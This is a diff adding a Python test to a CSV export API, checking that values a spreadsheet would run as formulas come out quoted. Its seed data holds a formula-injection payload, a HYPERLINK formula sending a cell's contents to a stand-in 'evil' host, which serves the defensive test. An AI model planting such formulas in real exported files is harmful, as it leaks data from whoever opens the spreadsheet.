@@ -53,3 +53,16 @@ def test_bad_filters_are_refused_before_anything_streams(client: TestClient) -> 
     r = client.get("/api/v1/export/jurisdictions.csv?sort=nonsense")
     assert r.status_code == 422 and r.json()["errors"][0]["field"] == "sort"
     assert client.get("/api/v1/export/votes.csv?outcome=maybe").status_code == 422
+
+
+def test_cells_a_spreadsheet_would_run_are_quoted(
+    client: TestClient, session: Session, credentials: Credentials
+) -> None:
+    j = factories.jurisdiction(session, "06001")
+    j.public_notes = "=1+1"
+    factories.vote(session, j, body='=HYPERLINK("http://evil/?"&A1,"x")', measure="@SUM(1+1)")
+    session.commit()
+    vote = rows(client, "/api/v1/export/votes.csv")[0]
+    assert vote["body"].startswith("'=HYPERLINK") and vote["measure"] == "'@SUM(1+1)"
+    alameda = rows(client, "/api/v1/export/jurisdictions.csv?fips=06001")[0]
+    assert alameda["public_notes"] == "'=1+1" and alameda["population"] == ""
